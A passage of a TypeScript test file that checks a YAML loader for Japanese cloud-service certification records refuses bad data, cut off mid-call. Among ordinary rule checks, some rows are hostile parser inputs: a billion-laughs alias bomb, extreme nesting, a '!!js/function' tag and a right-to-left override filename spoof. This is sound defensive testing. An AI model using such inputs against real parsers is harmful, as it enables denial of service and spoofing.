/**
 * The secretariat's bad data must be refused, with a Japanese message that
 * names the file (relative to the project), the line, the field path and the
 * rule — and good data that looks odd must be accepted.
 *
 * One table: every row is one class of bad (or borderline) input. Each row
 * copies the valid fixture catalogue (content/form-b.yaml, copied at test time
 * so the template stays single-sourced, plus
 * test/fixtures/bad-data/valid/services/ip0001-1302.yaml) into a temp folder,
 * breaks one thing, and loads it.
 */
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, readdirSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { isAbsolute, join } from 'node:path';
import { afterEach, describe, expect, test } from 'vitest';
import { CatalogueError, formatProblem, type DataProblem } from '../../src/data/data-problem.ts';
import { loadCatalogue, type Catalogue } from '../../src/data/load-catalogue.ts';
import { parseFailsafeFast, parseYaml } from '../../src/data/yaml-source.ts';
import {
  catalogue,
  edit,
  FILE,
  lineOf,
  removeCatalogues,
  removeLater,
  ROOT,
  TEMPLATE,
  VALID,
  type Setup,
} from '../support/bad-catalogue.ts';

// ---------------------------------------------------------------- helpers

afterEach(removeCatalogues);

function refused(dir: string): CatalogueError {
  let error: unknown;
  try {
    loadCatalogue(dir);
  } catch (e) {
    error = e;
  }
  expect(error, `the catalogue should have been refused; got ${String(error)}`).toBeInstanceOf(CatalogueError);
  const e = error as CatalogueError;
  expect(e.problems.length).toBeGreaterThan(0);
  expect(e.message).toMatch(/^データに \d+ 件の誤りがあります。公開できません。/);
  return e;
}

interface Expected {
  /** The file's path inside the catalogue (default services/ip0001-1302.yaml). */
  file?: string;
  field: string;
  /** Exact line, or [min, max] when more than one line is sensible. */
  line: number | [number, number];
  /** Exact column, when it matters. */
  col?: number;
  /** Key words of the rule that the Japanese message must contain. */
  words: string[];
}

/** Finds the problem at `field` whose message has all the words, and checks where it points. */
function expectProblem(e: CatalogueError, want: Expected): DataProblem {
  const file = want.file ?? `services/${FILE}`;
  const candidates = e.problems.filter((p) => p.field === want.field && want.words.every((w) => p.message.includes(w)));
  expect(candidates, `no problem at ${want.field} with ${want.words.join(' / ')}; got:\n${e.message}`).not.toHaveLength(
    0,
  );
  const p = candidates[0]!;
  expect(p.file.replaceAll('\\', '/').endsWith(`/${file}`), `file ${p.file} should end with ${file}`).toBe(true);
  // Paths are shown relative to the project, never as the machine's absolute path.
  expect(isAbsolute(p.file), `file ${p.file} should be relative`).toBe(false);
  expect(p.message, 'the reason is said in Japanese').toMatch(/[\u3040-\u30ff\u4e00-\u9fff]/);
  expect(p.line).toBeGreaterThan(0);
  expect(p.col).toBeGreaterThan(0);
  if (typeof want.line === 'number') expect(p.line, `line for ${want.field}`).toBe(want.line);
  else {
    expect(p.line).toBeGreaterThanOrEqual(want.line[0]);
    expect(p.line).toBeLessThanOrEqual(want.line[1]);
  }
  if (want.col !== undefined) expect(p.col, `column for ${want.field}`).toBe(want.col);
  // The whole error message (what people see) names file:line:col, the field and the rule.
  expect(e.message).toContain(formatProblem(p));
  expect(e.message).toContain(`${p.file}:${p.line}:${p.col}`);
  if (want.field) expect(e.message).toContain(`${want.field}: `);
  return p;
}

/** Removes the block of an answer (its key line and the more-indented lines under it). */
function withoutAnswer(text: string, id: string, indent = '  '): string {
  const lines = text.split('\n');
  const start = lines.indexOf(`${indent}${id}:`);
  if (start < 0) throw new Error(`answer not found: ${id}`);
  let end = start + 1;
  while (end < lines.length && lines[end]!.startsWith(`${indent} `)) end++;
  return [...lines.slice(0, start), ...lines.slice(end)].join('\n');
}

const withEvents = (events: string) => VALID.replace(/events:\n[\s\S]*$/, `events:\n${events}`);
const changes = (date: string, previous: string) =>
  `  - type: 変更届出\n    date: ${date}\n    changes:\n      - item: support-hours\n        previous: ${previous}\n`;
/** A second valid service, IP0001-1303 (serial 0001 again) or IP0002-1303. */
const second = (number: string) =>
  edit(
    edit(VALID, 'certificationNumber: IP0001-1302\n', `certificationNumber: ${number}\n`),
    '    date: 2013-02-14\n',
    '    date: 2013-03-01\n',
  );

const utf16le = (text: string, bom: boolean) =>
  Buffer.concat([Buffer.from(bom ? [0xff, 0xfe] : []), Buffer.from(text, 'utf16le')]);
const utf16be = (text: string) => {
  const le = Buffer.from(text, 'utf16le');
  for (let i = 0; i + 1 < le.length; i += 2) [le[i], le[i + 1]] = [le[i + 1]!, le[i]!];
  return Buffer.concat([Buffer.from([0xfe, 0xff]), le]);
};
/** Encodes as Shift_JIS (Windows-31J), by inverting the platform's decoder: Node has no encoder for it. */
const shiftJis = (() => {
  let table: Map<string, number[]> | undefined;
  const build = () => {
    const map = new Map<string, number[]>();
    const decoder = new TextDecoder('shift_jis');
    for (let lead = 0x81; lead <= 0xfc; lead++) {
      if (lead > 0x9f && lead < 0xe0) continue;
      for (let trail = 0x40; trail <= 0xfc; trail++) {
        if (trail === 0x7f) continue;
        const c = decoder.decode(Uint8Array.of(lead, trail));
        if (c.length === 1 && c !== '\ufffd' && !map.has(c)) map.set(c, [lead, trail]);
      }
    }
    return map;
  };
  return (text: string): Buffer => {
    table ??= build();
    const out: number[] = [];
    for (const c of text) out.push(...(c.charCodeAt(0) < 0x80 ? [c.charCodeAt(0)] : (table.get(c) ?? [0x3f])));
    return Buffer.from(out);
  };
})();

const NAME_LINE = lineOf(VALID, 'serviceName: テストクラウド基盤');
const NAME = 'serviceName: テストクラウド基盤\n';
/** The fixture with its service name replaced by a raw line (raw characters, YAML escapes). */
const named = (line: string) => edit(VALID, NAME, `${line}\n`);

// ---------------------------------------------------------------- the table

type Outcome =
  | { refused: Expected[]; count?: number | undefined }
  | { accepted: number; warnings?: { field: string; words: string[] }[]; check?: (c: Catalogue) => void };

interface Case {
  /** The class of input. */
  name: string;
  make: () => { setup: Setup; outcome: Outcome };
}

const refuse = (setup: Setup, refused: Expected[], count?: number): { setup: Setup; outcome: Outcome } => ({
  setup,
  outcome: { refused, count },
});
const accept = (setup: Setup, accepted = 1, more: Omit<Extract<Outcome, { accepted: number }>, 'accepted'> = {}) => ({
  setup,
  outcome: { accepted, ...more },
});

const CASES: Case[] = [
  // ---------------------------------------------------------------- control
  {
    name: 'the valid fixture loads, with 1 service',
    make: () => accept({}, 1, { check: (c) => expect(c.services[0]!.id).toBe('ip0001-1302') }),
  },

  // ---------------------------------------------------------------- 審査基準 (§5(2))
  {
    name: 'a missing 必須 item, naming the item and the rule',
    make: () => {
      const text = withoutAnswer(VALID, 'major-shareholders');
      const answersLine = lineOf(text, 'answers:');
      // No key to point at: the problem points at the answers block (its key or first entry).
      return refuse(
        { text },
        [
          {
            field: 'answers',
            line: [answersLine, answersLine + 1],
            words: ['必須項目', 'No.14', 'major-shareholders', '回答がありません'],
          },
        ],
        1,
      );
    },
  },
  {
    name: 'a 必須 item whose content is blank counts as missing',
    make: () => {
      const text = edit(VALID, '    content: 株式会社テストホールディングス 100%\n', '    content: ""\n');
      const key = lineOf(text, '  major-shareholders:');
      return refuse({ text }, [
        {
          field: 'answers.major-shareholders',
          line: [key, key + 1],
          words: ['必須項目', 'major-shareholders', '回答がありません'],
        },
      ]);
    },
  },
  ...(
    [
      ['change-contact', 'サービス企画部 電話 03-0000-0000 / 電子メール change@example.jp', 'なし', 'No.25'],
      ['support-contact', 'サポートセンター 電話 03-0000-0001 / 電子メール support@example.jp', '実施なし', 'No.52'],
    ] as const
  ).map(([id, before, after, no]) => ({
    name: `一定の要件 text item ${id} answered 「${after}」: a measure must be in place`,
    make: () => {
      const text = edit(VALID, `    content: ${before}\n`, `    content: ${after}\n`);
      return refuse(
        { text },
        [
          {
            field: `answers.${id}.content`,
            line: lineOf(text, `    content: ${after}`, `  ${id}:`),
            words: [no, '一定の要件を考慮すべき項目', '対策・措置', '認定できません'],
          },
        ],
        1,
      );
    },
  })),
  {
    name: '一定の要件 practice item with implemented: false',
    make: () => {
      const text = edit(
        VALID,
        '    implemented: true\n    content: 計画停止の14日前までに電子メールで告知\n',
        '    implemented: false\n    content: 計画停止の14日前までに電子メールで告知\n',
      );
      return refuse({ text }, [
        {
          field: 'answers.maintenance-notice.implemented',
          line: lineOf(text, '    implemented: false', '  maintenance-notice:'),
          words: ['No.54', '一定の要件を考慮すべき項目', '対策・措置'],
        },
      ]);
    },
  },
  {
    name: 'an answered item without 添付書類等 (evidence)',
    make: () => {
      const text = edit(
        VALID,
        '    content: 120名\n    evidence: [{ document: 会社案内, place: p.3 }]\n',
        '    content: 120名\n',
      );
      return refuse({ text }, [
        {
          field: 'answers.employee-count.evidence',
          line: [lineOf(text, '  employee-count:'), lineOf(text, '    content: 120名')],
          words: ['添付書類等', 'ありません'],
        },
      ]);
    },
  },

  // ---------------------------------------------------------------- items and the template
  {
    name: 'an unknown item id, pointing at the line of that key',
    make: () => {
      const text = edit(
        VALID,
        '  company-name:\n',
        '  no-such-item:\n    content: 何か\n    evidence: [{ document: 資料, place: p.1 }]\n  company-name:\n',
      );
      return refuse({ text }, [
        {
          field: 'answers.no-such-item',
          line: lineOf(text, '  no-such-item:'),
          words: ['no-such-item', '申請書B様式', 'ありません'],
        },
      ]);
    },
  },
  {
    name: 'a ハウジング item in the top-level answers (it belongs under dataCentres)',
    make: () => {
      const text = edit(
        VALID,
        '  company-name:\n',
        '  dc-seismic:\n    content: 免震構造\n    evidence: [{ document: 説明書, place: 2.1 }]\n  company-name:\n',
      );
      return refuse({ text }, [
        {
          field: 'answers.dc-seismic',
          line: lineOf(text, '  dc-seismic:'),
          words: ['dc-seismic', 'ハウジング', 'dataCentres'],
        },
      ]);
    },
  },
  {
    name: 'a top-level item placed under a data centre',
    make: () => {
      const text = edit(
        VALID,
        '      dc-ownership:\n',
        '      company-name:\n        content: 株式会社テスト\n        evidence: [{ document: 登記事項証明書, place: 商号欄 }]\n      dc-ownership:\n',
      );
      const at = lineOf(text, '      company-name:');
      return refuse({ text }, [
        {
          field: 'dataCentres[0].answers.company-name',
          line: [at, at + 1],
          words: ['company-name', 'データセンターごとの項目ではありません', 'answers に書いてください'],
        },
      ]);
    },
  },
  {
    name: 'an answer over its length limit (business-overview: 100 字以内)',
    make: () => {
      const long = 'あ'.repeat(101);
      const text = edit(VALID, '    content: クラウド基盤サービスとシステム開発\n', `    content: ${long}\n`);
      return refuse({ text }, [
        {
          field: 'answers.business-overview.content',
          line: lineOf(text, `    content: ${long}`),
          words: ['No.6', '100 字以内', '101 字'],
        },
      ]);
    },
  },
  {
    name: 'exactly 100 characters, line breaks not counted (accepted)',
    make: () =>
      accept({
        text: edit(
          VALID,
          '    content: クラウド基盤サービスとシステム開発\n',
          `    content: |-\n      ${'あ'.repeat(50)}\n      ${'い'.repeat(50)}\n`,
        ),
      }),
  },
  {
    name: 'a 変更届出 naming an item that does not exist',
    make: () => {
      const text = `${VALID}  - type: 変更届出\n    date: 2013-06-01\n    changes:\n      - item: no-such-item\n        previous: 旧い記述\n`;
      return refuse({ text }, [
        {
          field: 'events[1].changes[0].item',
          line: lineOf(text, '      - item: no-such-item'),
          words: ['変更届出', 'no-such-item', '申請書B様式', 'ありません'],
        },
      ]);
    },
  },
  {
    name: 'a 変更届出 naming an existing item (accepted)',
    make: () =>
      accept({
        text: `${VALID}  - type: 変更届出\n    date: 2013-06-01\n    changes:\n      - item: employee-count\n        previous: 110名\n`,
      }),
  },
  {
    name: 'a change whose previous text equals the new text',
    make: () => {
      const text = `${VALID}  - type: 変更届出\n    date: 2013-06-01\n    changes:\n      - item: support-hours\n        previous: 平日 9:00〜18:00\n`;
      return refuse({ text }, [
        {
          field: 'events[1].changes[0].previous',
          line: lineOf(text, '        previous: 平日 9:00〜18:00'),
          words: ['support-hours', '変更前', '変更後の内容が同じ'],
        },
      ]);
    },
  },
  {
    name: 'two changes in a row, each new text the next previous (accepted)',
    make: () =>
      accept({ text: VALID + changes('2013-06-01', '平日 9:00〜17:00') + changes('2013-07-01', '平日 9:00〜17:30') }),
  },
  {
    name: 'two changes in a row where the earlier one changes nothing',
    make: () =>
      refuse({ text: VALID + changes('2013-06-01', '平日 9:00〜17:30') + changes('2013-07-01', '平日 9:00〜17:30') }, [
        { field: 'events[1].changes[0].previous', line: [1, 999], words: ['変更後の内容が同じ'] },
      ]),
  },

  // ---------------------------------------------------------------- 認定番号 and file names
  {
    name: 'a malformed 認定番号 (IP001-1302), with the correct form as an example',
    make: () => {
      const text = edit(VALID, 'certificationNumber: IP0001-1302\n', 'certificationNumber: IP001-1302\n');
      return refuse({ text }, [
        {
          field: 'certificationNumber',
          line: lineOf(text, 'certificationNumber: IP001-1302'),
          words: ['認定番号', 'IP001-1302', '形式が正しくありません', '4桁の通番'],
        },
      ]);
    },
  },
  {
    name: 'a YYMM that disagrees with the first 認定 date',
    make: () => {
      const text = edit(VALID, '    date: 2013-02-14\n', '    date: 2013-03-14\n');
      return refuse(
        { text },
        [
          {
            field: 'certificationNumber',
            line: lineOf(text, 'certificationNumber: IP0001-1302'),
            words: ['下4桁', '1302', '初回の認定日', '2013-03-14', '1303', '一致しません'],
          },
        ],
        1,
      );
    },
  },
  {
    name: 'a serial used by two files, naming the other file',
    make: () =>
      refuse(
        { extra: { 'ip0001-1303.yaml': second('IP0001-1303') } },
        [
          {
            file: 'services/ip0001-1303.yaml',
            field: 'certificationNumber',
            line: lineOf(second('IP0001-1303'), 'certificationNumber: IP0001-1303'),
            words: ['認定通番', '0001', '重複', '一意', FILE],
          },
        ],
        1,
      ),
  },
  {
    name: 'two files with different serials side by side (accepted)',
    make: () =>
      accept({ extra: { 'ip0002-1303.yaml': second('IP0002-1303') } }, 2, {
        check: (c) => expect(c.services.map((s) => s.id)).toEqual(['ip0001-1302', 'ip0002-1303']),
      }),
  },
  {
    name: 'a file name that does not match the number, naming the right file name',
    make: () =>
      refuse({ fileName: 'ip0001-1303.yaml' }, [
        {
          file: 'services/ip0001-1303.yaml',
          field: 'certificationNumber',
          line: lineOf(VALID, 'certificationNumber: IP0001-1302'),
          words: ['ファイル名', '小文字', 'ip0001-1302.yaml'],
        },
      ]),
  },

  // ---------------------------------------------------------------- dates and 公表留保
  {
    name: 'an impossible event date (2025-02-30)',
    make: () => {
      const text = edit(VALID, '    date: 2013-02-14\n', '    date: 2025-02-30\n');
      return refuse({ text }, [
        {
          field: 'events[0].date',
          line: lineOf(text, '    date: 2025-02-30'),
          words: ['2025-02-30', '存在しない', 'YYYY-MM-DD'],
        },
      ]);
    },
  },
  {
    name: 'an impossible date in a Form B date answer (2013/02/30)',
    make: () => {
      const text = edit(VALID, '    content: 2013/01/31\n', '    content: 2013/02/30\n');
      return refuse({ text }, [
        {
          field: 'answers.disclosure-date.content',
          line: lineOf(text, '    content: 2013/02/30'),
          words: ['No.1', '日付', '存在する日付'],
        },
      ]);
    },
  },
  {
    name: 'a 公表留保 (withhold) without its last day: the message asks for through',
    make: () => {
      const text = edit(
        VALID,
        '    content: 株式会社テストホールディングス 100%\n',
        '    content: 株式会社テストホールディングス 100%\n    withhold:\n      reason: 契約上の理由\n',
      );
      return refuse({ text }, [
        {
          field: 'answers.major-shareholders.withhold.through',
          line: lineOf(text, '    withhold:', '  major-shareholders:'),
          words: ['公表留保', '最終日', 'through', '期限のない'],
        },
      ]);
    },
  },
  {
    name: 'a 公表留保 with its last day (accepted)',
    make: () =>
      accept({
        text: edit(
          VALID,
          '    content: 株式会社テストホールディングス 100%\n',
          '    content: 株式会社テストホールディングス 100%\n    withhold:\n      through: 2014-04-01\n      reason: 契約上の理由\n',
        ),
      }),
  },
  {
    name: 'the old key until is refused by name, saying to write through (the agreed last day)',
    make: () => {
      const text = edit(
        VALID,
        '    content: 株式会社テストホールディングス 100%\n',
        '    content: 株式会社テストホールディングス 100%\n    withhold:\n      until: 2014-04-01\n      reason: 契約上の理由\n',
      );
      return refuse({ text }, [
        {
          field: 'answers.major-shareholders.withhold.until',
          line: lineOf(text, '      until: 2014-04-01'),
          words: ['until', 'through', '最終日', '翌日'],
        },
      ]);
    },
  },
  {
    name: 'a 公表留保 whose last day is impossible',
    make: () => {
      const text = edit(
        VALID,
        '    content: 株式会社テストホールディングス 100%\n',
        '    content: 株式会社テストホールディングス 100%\n    withhold:\n      through: 2014-02-30\n      reason: 契約上の理由\n',
      );
      return refuse({ text }, [
        {
          field: 'answers.major-shareholders.withhold.through',
          line: lineOf(text, '      through: 2014-02-30'),
          words: ['公表留保', '最終日', '2014-02-30', '存在しない'],
        },
      ]);
    },
  },

  // ---------------------------------------------------------------- lifecycle events
  {
    name: 'a renewal after the period lapsed without an application inside the 60–30 day window',
    make: () => {
      // Period 2013-02-14 – 2015-02-13; window 2014-12-15 – 2015-01-14. Applied 2015-01-30 (too late), decided after expiry.
      const text = withEvents(
        '  - type: 認定\n    date: 2013-02-14\n  - type: 更新申請\n    date: 2015-01-30\n  - type: 更新認定\n    date: 2015-02-20\n    periodStart: 2015-02-20\n',
      );
      return refuse({ text }, [
        {
          field: 'events[2].date',
          line: lineOf(text, '    date: 2015-02-20'),
          words: ['60日前から30日前', '更新認定はできません'],
        },
      ]);
    },
  },
  {
    name: 'a renewal decided after expiry with the application inside the window (accepted)',
    make: () =>
      accept({
        text: withEvents(
          '  - type: 認定\n    date: 2013-02-14\n  - type: 更新申請\n    date: 2014-12-20\n  - type: 更新認定\n    date: 2015-02-20\n    periodStart: 2015-02-20\n',
        ),
      }),
  },
  {
    name: 'a change notice after the certification lapsed',
    make: () => {
      const text = withEvents(
        '  - type: 認定\n    date: 2013-02-14\n  - type: 変更届出\n    date: 2016-01-10\n    changes:\n      - item: company-name\n        previous: 旧社名株式会社\n',
      );
      return refuse({ text }, [
        {
          field: 'events[1].type',
          line: lineOf(text, '  - type: 変更届出'),
          words: ['認定が有効な間だけ', '期限切れ'],
        },
      ]);
    },
  },
  {
    name: 'an unknown event type',
    make: () => {
      const text = edit(VALID, '  - type: 認定\n', '  - type: 認可\n');
      return refuse({ text }, [{ field: 'events[0].type', line: lineOf(text, '  - type: 認可'), words: ['認定'] }]);
    },
  },
  {
    name: 'an unknown top-level field (a misspelling)',
    make: () => {
      const text = edit(
        VALID,
        'serviceSite: https://cloud.example.jp/\n',
        'serviceSite: https://cloud.example.jp/\nserviceSight: x\n',
      );
      return refuse({ text }, [
        { field: 'serviceSight', line: lineOf(text, 'serviceSight: x'), words: ['未知のフィールド', 'serviceSight'] },
      ]);
    },
  },
  {
    name: 'a category other than IaaS or PaaS',
    make: () => {
      const text = edit(VALID, 'category: IaaS\n', 'category: SaaS\n');
      return refuse({ text }, [{ field: 'category', line: lineOf(text, 'category: SaaS'), words: ['IaaS', 'PaaS'] }]);
    },
  },
  {
    name: 'a number-like value is kept as written (99.950, 0012, 1e3, yes) (accepted)',
    make: () =>
      accept(
        {
          text: edit(
            edit(VALID, '    content: 120名\n', '    content: 0120\n'),
            'serviceName: テストクラウド基盤\n',
            'serviceName: 99.950\n',
          ),
        },
        1,
        {
          check: (c) => {
            expect(c.services[0]!.record.serviceName).toBe('99.950');
            expect(c.services[0]!.record.answers['employee-count']?.content).toBe('0120');
          },
        },
      ),
  },

  // ---------------------------------------------------------------- YAML that does not parse, or is not plain YAML
  {
    name: 'bad indentation (a key one space too far)',
    make: () => {
      const text = edit(VALID, '  company-name:\n', '   company-name:\n');
      return refuse({ text }, [{ field: '', line: lineOf(text, '   company-name:'), words: ['YAML', '字下げ'] }]);
    },
  },
  {
    name: 'an unclosed quote, pointing at the line where the quote opens',
    make: () => {
      const text = edit(VALID, '    content: 株式会社テスト\n', '    content: "株式会社テスト\n');
      return refuse({ text }, [
        { field: '', line: lineOf(text, '    content: "株式会社テスト'), words: ['YAML', '記号'] },
      ]);
    },
  },
  {
    name: 'a key written twice',
    make: () => {
      const text = edit(VALID, NAME, `${NAME}serviceName: 別名\n`);
      return refuse({ text }, [{ field: '', line: lineOf(text, 'serviceName: 別名'), words: ['同じキーが2回'] }]);
    },
  },
  {
    name: 'a tab used for indentation',
    make: () => {
      const text = edit(VALID, '  company-name:\n', '\tcompany-name:\n');
      return refuse({ text }, [
        { field: '', line: [lineOf(text, '\tcompany-name:') - 1, lineOf(text, '\tcompany-name:')], words: ['YAML'] },
      ]);
    },
  },
  {
    name: 'two YAML documents in one file',
    make: () =>
      refuse({ text: `${VALID}---\nserviceName: 二つ目\n` }, [{ field: '', line: [1, 999], words: ['YAML'] }]),
  },
  {
    name: 'an empty file',
    make: () => refuse({ text: '' }, [{ field: 'templateVersion', line: 1, words: ['必須のフィールドがありません'] }]),
  },
  {
    name: 'a top-level list instead of fields',
    make: () => refuse({ text: '- a\n- b\n' }, [{ field: '', line: 1, words: ['マッピング'] }]),
  },
  {
    name: 'a top-level plain text instead of fields',
    make: () => refuse({ text: 'これはサービスです\n' }, [{ field: '', line: 1, words: ['マッピング'] }]),
  },
  {
    name: 'a list where text is expected (serviceName: [a, b])',
    make: () =>
      refuse({ text: named('serviceName: [a, b]') }, [{ field: 'serviceName', line: NAME_LINE, words: ['文字列'] }]),
  },
  {
    name: 'an alias bomb (a billion laughs) is refused quickly, not expanded',
    make: () => {
      const levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
      for (let i = 1; i < 9; i++)
        levels.push(
          `${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(9)
            .fill(`*${String.fromCharCode(96 + i)}`)
            .join(',')}]`,
        );
      const text = edit(VALID, NAME, `${NAME}${levels.join('\n')}\n`);
      return refuse({ text }, [{ field: 'a', line: lineOf(text, levels[0]!), words: ['未知のフィールド'] }]);
    },
  },
  {
    name: 'aliases that multiply (1,000 events × 1,000 changes from a 15 KB file) are refused quickly',
    make: () => {
      const changes = `[&c {item: employee-count, previous: 110名}, ${Array(999).fill('*c').join(', ')}]`;
      const text = withEvents(
        `  - type: 認定\n    date: 2013-02-14\n  - &e {type: 変更届出, date: 2013-06-01, changes: ${changes}}\n${Array(1000).fill('  - *e').join('\n')}\n`,
      );
      return refuse(
        { text },
        [
          {
            field: '',
            line: lineOf(text, '  - &e {type: 変更届出, date: 2013-06-01, changes: ' + changes + '}'),
            words: ['エイリアス', '100 個まで', '1999 個'],
          },
        ],
        1,
      );
    },
  },
  {
    name: 'anchors and aliases are read as the copied text (accepted)',
    make: () =>
      accept(
        {
          text: edit(
            edit(VALID, NAME, 'serviceName: &name テストクラウド基盤\n'),
            '    content: 株式会社テスト\n',
            '    content: *name\n',
          ),
        },
        1,
        {
          check: (c) => expect(c.services[0]!.record.answers['company-name']?.content).toBe('テストクラウド基盤'),
        },
      ),
  },
  {
    name: 'an alias written before its anchor',
    make: () => {
      const text = edit(
        edit(VALID, NAME, 'serviceName: *name\n'),
        '    content: 株式会社テスト\n',
        '    content: &name 株式会社テスト\n',
      );
      return refuse({ text }, [{ field: '', line: NAME_LINE, col: 14, words: ['YAML', 'エイリアス', 'アンカー'] }], 1);
    },
  },
  {
    name: 'deep nesting (10,000 levels) is refused without a crash',
    make: () =>
      refuse({ text: edit(VALID, NAME, `serviceName: ${'['.repeat(10_000)}${']'.repeat(10_000)}\n`) }, [
        { field: '', line: [1, NAME_LINE], words: [] },
      ]),
  },
  {
    name: 'a huge value (450 KB on one line) is refused by the length rules, not a crash',
    make: () => {
      const text = edit(
        VALID,
        '    content: クラウド基盤サービスとシステム開発\n',
        `    content: ${'長'.repeat(150_000)}\n`,
      );
      return refuse({ text }, [
        {
          field: 'answers.business-overview.content',
          line: lineOf(text, `    content: ${'長'.repeat(150_000)}`),
          words: ['100 字以内'],
        },
      ]);
    },
  },

  {
    name: 'a file over 512 KB (a pasted image) is refused at once',
    make: () =>
      refuse(
        { text: `${VALID}# ${'x'.repeat(512 * 1024)}\n` },
        [{ field: '', line: 1, col: 1, words: ['ファイルが大きすぎます', '512 KB'] }],
        1,
      ),
  },
  {
    name: 'a large file (300 KB) with a YAML mistake is refused quickly, at the right line',
    make: () => {
      const text = `${VALID}# ${'x'.repeat(300 * 1024)}\n`.replace('  company-name:\n', '   company-name:\n');
      return refuse(
        { text },
        [
          {
            field: '',
            line: [lineOf(text, '   company-name:') - 1, lineOf(text, '   company-name:') + 1],
            words: ['YAML'],
          },
        ],
        1,
      );
    },
  },

  // ---------------------------------------------------------------- YAML tags
  {
    name: 'a !!binary value, with its line (not a missing field)',
    make: () =>
      refuse(
        { text: named('serviceName: !!binary 44OG44K544OI') },
        [{ field: 'serviceName', line: NAME_LINE, col: 14, words: ['YAML のタグ（!!binary など）は使えません'] }],
        1,
      ),
  },
  {
    name: 'an unknown tag !!js/function (not silently read as text)',
    make: () =>
      refuse(
        { text: named('serviceName: !!js/function "function () { return 1 }"') },
        [{ field: 'serviceName', line: NAME_LINE, words: ['YAML のタグ'] }],
        1,
      ),
  },
  {
    name: 'a custom tag !foo',
    make: () =>
      refuse(
        { text: named('serviceName: !foo テスト') },
        [{ field: 'serviceName', line: NAME_LINE, words: ['YAML のタグ'] }],
        1,
      ),
  },
  {
    name: 'an explicit !!str (harmless, but a tag all the same)',
    make: () =>
      refuse(
        { text: named('serviceName: !!str テストクラウド基盤') },
        [{ field: 'serviceName', line: NAME_LINE, words: ['YAML のタグ'] }],
        1,
      ),
  },
  {
    name: 'a verbatim tag !<tag:yaml.org,2002:str>',
    make: () =>
      refuse(
        { text: named('serviceName: !<tag:yaml.org,2002:str> テスト') },
        [{ field: 'serviceName', line: NAME_LINE, words: ['YAML のタグ'] }],
        1,
      ),
  },
  {
    name: 'a tag on a mapping (!!map) deep in the answers',
    make: () => {
      const text = edit(VALID, '  company-name:\n', '  company-name: !!map\n');
      return refuse(
        { text },
        [{ field: 'answers.company-name', line: lineOf(text, '  company-name: !!map'), words: ['YAML のタグ'] }],
        1,
      );
    },
  },
  {
    name: 'an exclamation mark inside text is not a tag (accepted)',
    make: () =>
      accept({ text: named('serviceName: テスト!クラウド !基盤') }, 1, {
        check: (c) => expect(c.services[0]!.record.serviceName).toBe('テスト!クラウド !基盤'),
      }),
  },

  // ---------------------------------------------------------------- the text policy: raw characters
  ...(
    [
      ['NUL (U+0000)', '\u0000', 'U+0000', '制御文字'],
      ['ESC (U+001B)', '\u001b', 'U+001B', '制御文字'],
      ['BEL (U+0007)', '\u0007', 'U+0007', '制御文字'],
      ['DEL (U+007F)', '\u007f', 'U+007F', '制御文字'],
      ['C1 CSI (U+009B)', '\u009b', 'U+009B', '制御文字'],
      ['right-to-left override (U+202E)', '\u202e', 'U+202E', '表示の向き'],
      ['left-to-right embedding (U+202A)', '\u202a', 'U+202A', '表示の向き'],
      ['first strong isolate (U+2068)', '\u2068', 'U+2068', '表示の向き'],
      ['pop directional isolate (U+2069)', '\u2069', 'U+2069', '表示の向き'],
      ['noncharacter U+FFFE', '\ufffe', 'U+FFFE', '非文字'],
      ['noncharacter U+FFFF', '\uffff', 'U+FFFF', '非文字'],
    ] as const
  ).map(([what, char, code, word]) => ({
    name: `a raw ${what} in a value, at its own column`,
    make: () =>
      refuse(
        { text: named(`serviceName: テスト${char}クラウド`) },
        [{ field: 'serviceName', line: NAME_LINE, col: 17, words: [code, word] }],
        1,
      ),
  })),
  {
    name: 'a raw ESC in a comment (no field)',
    make: () => {
      const text = `# \u001b[31m赤\n${VALID}`;
      return refuse({ text }, [{ field: '', line: 1, col: 3, words: ['U+001B'] }], 1);
    },
  },
  {
    name: 'a raw NUL in the data-centre label (repeated on every housing row of the CSV)',
    make: () => {
      const text = edit(VALID, '    label: 東京第1データセンター\n', '    label: 東京第1\u0000データセンター\n');
      return refuse(
        { text },
        [
          {
            field: 'dataCentres[0].label',
            line: lineOf(text, '    label: 東京第1\u0000データセンター'),
            words: ['U+0000'],
          },
        ],
        1,
      );
    },
  },

  // ---------------------------------------------------------------- the text policy: YAML escapes
  ...(
    [
      ['"\\0" (NUL)', '"テスト\\0"', 'U+0000'],
      ['"\\e" (ESC)', '"\\e[2Jテスト"', 'U+001B'],
      ['"\\x85" (C1 next line)', '"テスト\\x85"', 'U+0085'],
      ['"\\u202E" (right-to-left override)', '"テスト\\u202Eexe.txt"', 'U+202E'],
      ['"\\u2066" (left-to-right isolate)', '"\\u2066テスト"', 'U+2066'],
      ['"\\uD800" (lone high surrogate)', '"テスト\\uD800"', 'U+D800'],
      ['"\\uDC00" (lone low surrogate)', '"\\uDC00テスト"', 'U+DC00'],
      ['"\\uFFFF" (noncharacter)', '"テスト\\uFFFF"', 'U+FFFF'],
    ] as const
  ).map(([what, value, code]) => ({
    name: `a YAML escape ${what} in a value`,
    make: () =>
      refuse({ text: named(`serviceName: ${value}`) }, [{ field: 'serviceName', line: NAME_LINE, words: [code] }], 1),
  })),
  {
    name: 'a YAML escape in a key ("\\a")',
    make: () => {
      const text = edit(VALID, '  company-name:\n', '  "company\\a-name":\n');
      return refuse({ text }, [
        { field: 'answers.company\u0007-name', line: lineOf(text, '  "company\\a-name":'), words: ['キー', 'U+0007'] },
      ]);
    },
  },
  {
    name: 'a YAML escape in an event summary, deep in a list',
    make: () => {
      const text = `${VALID}  - type: 改善要請\n    date: 2013-06-01\n    summary: "要請\\u202Eの概要"\n`;
      return refuse(
        { text },
        [{ field: 'events[1].summary', line: lineOf(text, '    summary: "要請\\u202Eの概要"'), words: ['U+202E'] }],
        1,
      );
    },
  },
  {
    name: 'TAB, CRLF line ends, a valid surrogate pair (emoji) and zero-width space are allowed (accepted)',
    make: () =>
      accept({ text: edit(VALID, NAME, 'serviceName: "テスト\\tクラウド😀\u200b"\n').replaceAll('\n', '\r\n') }, 1, {
        check: (c) => expect(c.services[0]!.record.serviceName).toBe('テスト\tクラウド😀\u200b'),
      }),
  },

  // ---------------------------------------------------------------- encodings
  { name: 'a UTF-8 file with a BOM (accepted)', make: () => accept({ text: `\ufeff${VALID}` }) },
  {
    name: 'a file saved as Shift_JIS: one message, at the top, naming the encoding',
    make: () =>
      refuse(
